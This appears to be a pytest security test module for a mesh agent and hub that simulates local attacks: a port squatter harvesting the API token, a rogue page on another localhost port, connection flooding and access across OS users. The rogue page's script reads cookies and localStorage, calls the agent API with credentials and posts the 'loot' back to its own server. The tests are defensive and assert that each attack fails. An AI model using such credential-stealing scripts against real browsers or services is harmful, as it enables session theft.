"""Attacks from the agent's own machine (issue 12, items 6, 7 and 14), against real hub and agent processes.

- A local user who binds the agent's TCP port while the agent is down must not collect the API token from the CLI,
  and a token seen once is dead after the agent's next start.
- A web page on another port of 127.0.0.1 must not obtain the GUI's credential nor drive the API (in chromium).
- Logs and the data directory are private; the GUI sign-in link does not go to a non-terminal stdout; the hub caps
  unauthenticated connections per source address.
"""

from __future__ import annotations

import contextlib
import http.client
import http.server
import os
import re
import shutil
import socket
import socketserver
import stat
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gui import conftest as gui_fixtures
from support import (
    ZTM,
    base_env,
    free_port,
    one_line_error,
    restart_agent,
    restart_hub,
    run,
    start_agent,
    start_hub,
    wait_until,
)
from ztm.h2.server import MAX_UNAUTHENTICATED_PER_SOURCE


class Squatter:
    """What a local user runs on the agent's port while the agent is down: accept, record, answer like an agent."""

    def __init__(self, port: int) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", port))
        self.sock.listen(16)
        self.received = bytearray()
        self.connections = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.settimeout(2.0)
                data = b""
                with contextlib.suppress(OSError):
                    while b"\r\n\r\n" not in data:
                        chunk = conn.recv(65536)
                        if not chunk:
                            break
                        data += chunk
                self.received += data
                body = b'{"error": "missing or wrong API token", "code": "unauthorized"}'
                head = f"HTTP/1.1 401 Unauthorized\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
                with contextlib.suppress(OSError):
                    conn.sendall(head.encode() + body)

    def close(self) -> None:
        self.sock.close()
        self._thread.join(5)


def test_a_squatter_on_the_agents_port_collects_no_token(tmp_path: Path) -> None:
    agent = start_agent(tmp_path, "a")
    assert agent.cli("get", "mesh").returncode == 0  # the CLI works while the agent runs
    token = agent.token
    agent.proc.kill9()  # a crash (or a restart, an upgrade): the port is free for a moment
    squatter = Squatter(agent.port)
    try:
        for args in (("get", "mesh"), ("gui",), ("terminal", "exec", "x", "--", "true"), ("get", "file")):
            cp = agent.cli(*args, check=False, timeout=20)
            assert cp.returncode != 0, cp.stdout
            assert "Traceback" not in cp.stderr
        assert token.encode() not in squatter.received, "the CLI handed the API token to the squatter"
        assert b"authorization" not in squatter.received.lower(), bytes(squatter.received)
    finally:
        squatter.close()


def test_a_token_seen_once_is_dead_after_the_next_start(tmp_path: Path) -> None:
    agent = start_agent(tmp_path, "a")
    seen = agent.token
    assert agent.api("GET", "/api/meshes")[0] == 200
    restart_agent(agent)
    assert agent.token != seen
    status, body = agent.api("GET", "/api/meshes", token=seen)
    assert status == 401, (status, body)
    assert agent.api("GET", "/api/meshes")[0] == 200
    assert agent.cli("get", "mesh").returncode == 0  # the CLI needs no token file: it finds the new agent itself


# ------------------------------------------------------------------------- item 14: files, the link, the hub's cap


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_logs_are_0600_and_an_open_data_directory_is_made_private(tmp_path: Path) -> None:
    hub = start_hub(tmp_path)
    agent = start_agent(tmp_path, "a")
    assert _mode(agent.data / "agent.log") == 0o600, oct(_mode(agent.data / "agent.log"))
    assert _mode(hub.data / "hub.log") == 0o600, oct(_mode(hub.data / "hub.log"))
    assert _mode(agent.data) == 0o700 and _mode(hub.data) == 0o700
    # as an older version (or a umask) left them: a world-readable directory and log
    for data, log in ((agent.data, "agent.log"), (hub.data, "hub.log")):
        data.chmod(0o755)
        (data / log).chmod(0o644)
    restart_agent(agent)
    restart_hub(hub)
    for data, log in ((agent.data, "agent.log"), (hub.data, "hub.log")):
        assert _mode(data) == 0o700, (data, oct(_mode(data)))
        assert _mode(data / log) == 0o600, (log, oct(_mode(data / log)))
    assert "made the data directory" in (agent.data / "agent.log").read_text()


def test_a_data_directory_of_another_user_is_refused_in_one_line(tmp_path: Path) -> None:
    data = tmp_path / "theirs"
    data.mkdir(mode=0o700)
    os.chown(data, 65534, 65534)
    cp = run([*ZTM, "run", "agent", "--listen", f"127.0.0.1:{free_port()}", "--data", str(data)], check=False)
    line = one_line_error(cp)
    assert "belongs to OS user id 65534" in line and "--data" in line, line


def test_the_sign_in_link_stays_off_a_stdout_that_is_not_a_terminal(tmp_path: Path) -> None:
    agent = start_agent(tmp_path, "a")  # stdout is a log file here, as it is the journal under systemd
    link_file = agent.data / "gui-signin.txt"
    wait_until(link_file.exists, 10, "the agent to write its sign-in link")
    agent.proc.wait_for_output(r"GUI sign-in link in \S+gui-signin\.txt", timeout=10)
    assert "code=" not in agent.proc.output()
    assert _mode(link_file) == 0o600
    match = re.search(r"http://127\.0\.0\.1:\d+(/gui/signin\?code=[A-Za-z0-9_-]+)", link_file.read_text())
    assert match, link_file.read_text()
    conn = http.client.HTTPConnection("127.0.0.1", agent.port, timeout=10)
    try:
        conn.request("GET", match.group(1))
        resp = conn.getresponse()
        resp.read()
    finally:
        conn.close()
    assert resp.status in (200, 303) and "expired" not in (resp.getheader("Location") or ""), resp.status


def _closed_at_once(sock: socket.socket, within: float) -> bool:
    """True when the peer closes (or resets) `sock` within `within` seconds without being sent anything."""
    sock.settimeout(within)
    try:
        return sock.recv(1) == b""
    except (ConnectionResetError, BrokenPipeError):
        return True
    except TimeoutError:
        return False


def test_the_hub_caps_unauthenticated_connections_per_source(tmp_path: Path) -> None:
    hub = start_hub(tmp_path)
    held: list[socket.socket] = []
    try:
        for _ in range(MAX_UNAUTHENTICATED_PER_SOURCE):  # a local attacker's connections that never say a word
            s = socket.socket()
            s.bind(("127.0.0.2", 0))
            s.connect(("127.0.0.1", hub.port))
            held.append(s)
        extra = socket.socket()
        extra.bind(("127.0.0.2", 0))
        extra.connect(("127.0.0.1", hub.port))
        held.append(extra)
        assert _closed_at_once(extra, 3.0), "the hub kept one more unauthenticated connection from the same source"
        assert not _closed_at_once(held[0], 0.2)  # the first ones are within the cap (and its 10 s handshake time)
        # another source (a real agent on 127.0.0.1) still gets in meanwhile
        agent = start_agent(tmp_path, "a")
        agent.join("m", "a", hub.permit)
    finally:
        for s in held:
            s.close()
    # the cap counts connections in the handshake only: once they are gone, the source may connect again
    wait_until(lambda: _fresh_accepted(hub.port), 10, "a connection from 127.0.0.2 to be accepted again")


def _fresh_accepted(port: int) -> bool:
    s = socket.socket()
    s.bind(("127.0.0.2", 0))
    try:
        s.connect(("127.0.0.1", port))
        return not _closed_at_once(s, 0.5)
    finally:
        s.close()


# ---------------------------------------------------------------------- item 7: the GUI credential and other ports


class _Collector(http.server.BaseHTTPRequestHandler):
    """A web server on another port of 127.0.0.1: records every request's headers and body, serves a page whose
    script tries to read or use the GUI's credential and posts what it found to `/loot`."""

    agent = ""
    seen: list[str] = []
    timeout = 5  # chromium opens spare connections it never uses: don't wait on them forever

    def do_GET(self) -> None:
        self.seen.append(str(self.headers))
        script = (
            "(async () => {"
            " const loot = {cookie: document.cookie, storage: JSON.stringify(localStorage)};"
            f" try {{ const r = await fetch('{self.agent}/api/meshes', {{credentials: 'include'}});"
            "   loot.read = r.status + ' ' + await r.text(); } catch (e) { loot.read = 'refused'; }"
            " await fetch('/loot', {method: 'POST', body: JSON.stringify(loot)});"
            " document.title = 'done';"
            "})();"
        )
        body = f"<!doctype html><title>elsewhere</title><script>{script}</script>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.seen.append(str(self.headers) + self.rfile.read(length).decode("utf-8", "replace"))
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """The GUI tests' browser (Debian's headless chromium, a new empty profile), for this module."""
    yield from gui_fixtures.browser_context.__wrapped__(tmp_path_factory)


class _CollectorServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    block_on_close = False


def test_a_web_server_on_another_port_gets_no_gui_credential(tmp_path: Path, chromium: Any) -> None:
    agent = start_agent(tmp_path, "a")
    base = f"http://127.0.0.1:{agent.port}"
    page = chromium.new_page()
    link = re.search(r"http://\S+/gui/signin\?code=[A-Za-z0-9_-]+", agent.cli("gui").stdout)
    assert link, "ztm gui printed no link"
    page.goto(link.group(0))
    page.wait_for_selector("#shell:not([hidden])")  # signed in: the GUI works in this browser
    _Collector.agent, _Collector.seen = base, []
    with _CollectorServer(("127.0.0.1", 0), _Collector) as evil:
        threading.Thread(target=evil.serve_forever, daemon=True).start()
        other = chromium.new_page()
        try:
            other.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
            other.wait_for_function("document.title === 'done'")
        finally:
            other.close()
            page.close()
            evil.shutdown()
    collected = "\n".join(_Collector.seen)
    assert "read" in collected  # the page's script ran and reported
    # whatever the other server collected, tried as every kind of credential, with a forged Origin and Host
    candidates = set(re.findall(r"[A-Za-z0-9_-]{40,}", collected))
    forged = {"Origin": base, "Host": f"127.0.0.1:{agent.port}"}
    for value in candidates:
        for header in (
            {"Cookie": f"ztm_session_{agent.port}={value}"},
            {"Cookie": f"ztm_session={value}"},
            {"X-Ztm-Session": value},
            {"Authorization": f"Bearer {value}"},
        ):
            status, _ = agent.api("GET", "/api/meshes", token="", headers={**forged, **header})
            assert status == 401, f"a page on another port collected a working credential ({header})"
    assert '"read":"refused"' in collected.replace(" ", ""), collected  # and could not read the API itself


# ------------------------------------------------------------------ item 6: the local socket and other OS users

NOBODY = 65534
SYSTEM_PYTHON = "/usr/bin/python3"  # stdlib only: the venv's python lives under /root, closed to others
needs_root = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("setpriv") or not Path(SYSTEM_PYTHON).exists(),
    reason="needs root, setpriv and /usr/bin/python3 to act as another OS user",
)


def _as_nobody(code: str, **kwargs: Any) -> subprocess.Popen[str]:
    argv = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", SYSTEM_PYTHON, "-c", code]
    return subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **kwargs)


def _open_dir() -> Path:
    shared = Path(tempfile.mkdtemp(prefix="ztm-sec-", dir="/tmp"))
    shared.chmod(0o777)
    return shared


@needs_root
def test_the_agent_serves_no_other_os_user_on_its_socket(tmp_path: Path) -> None:
    agent = start_agent(tmp_path, "a")
    shared = _open_dir()
    try:
        # a mistake that opens the socket to everyone: a world-writable link to it in a directory all can enter
        (agent.data / "agent.sock").chmod(0o666)
        os.link(agent.data / "agent.sock", shared / "agent.sock")
        ask = (
            "import socket\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            f"s.connect({str(shared / 'agent.sock')!r})\n"
            f"s.sendall(b'GET /api/meshes HTTP/1.1\\r\\nHost: 127.0.0.1:{agent.port}\\r\\n'\n"
            "          b'Connection: close\\r\\n\\r\\n')\n"
            "data = b''\n"
            "while chunk := s.recv(65536):\n"
            "    data += chunk\n"
            "print(data.decode())\n"
        )
        out, err = _as_nobody(ask).communicate(timeout=20)
        assert out.startswith("HTTP/1.1 403"), (out, err)
        assert "serves only the OS user who runs this agent" in out
        # the same request as the agent's own user through the same link: served
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(str(shared / "agent.sock"))
            s.sendall(f"GET /api/meshes HTTP/1.1\r\nHost: 127.0.0.1:{agent.port}\r\nConnection: close\r\n\r\n".encode())
            assert s.recv(65536).startswith(b"HTTP/1.1 200")
    finally:
        shutil.rmtree(shared, ignore_errors=True)


@needs_root
def test_the_cli_talks_to_no_socket_of_another_os_user(tmp_path: Path) -> None:
    shared = _open_dir()
    home = tmp_path / "home"
    server = None
    try:
        sock = shared / "planted.sock"
        listen = (
            "import os, socket\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            f"s.bind({str(sock)!r})\n"
            f"os.chmod({str(sock)!r}, 0o666)\n"
            "s.listen(4)\n"
            "s.settimeout(20)\n"
            "conn, _ = s.accept()\n"
            "conn.settimeout(3)\n"
            "data = b''\n"
            "try:\n"
            "    while chunk := conn.recv(65536):\n"
            "        data += chunk\n"
            "except OSError:\n"
            "    pass\n"
            "print(repr(data))\n"
        )
        server = _as_nobody(listen)
        wait_until(sock.exists, 10, "the other user's socket")
        port = free_port()
        registry = home / ".ztm" / "agents"
        registry.mkdir(parents=True)
        (registry / f"127.0.0.1_{port}.sock").symlink_to(sock)
        cp = run([*ZTM, "--agent", f"127.0.0.1:{port}", "get", "mesh"], env=base_env(home=home), check=False)
        line = one_line_error(cp)
        assert f"served by OS user id {NOBODY}, not by you" in line, line
        out, _err = server.communicate(timeout=20)
        assert out.strip() == "b''", f"the CLI sent {out.strip()} to another user's socket"
    finally:
        if server is not None and server.poll() is None:
            server.kill()
            server.wait()
        shutil.rmtree(shared, ignore_errors=True)
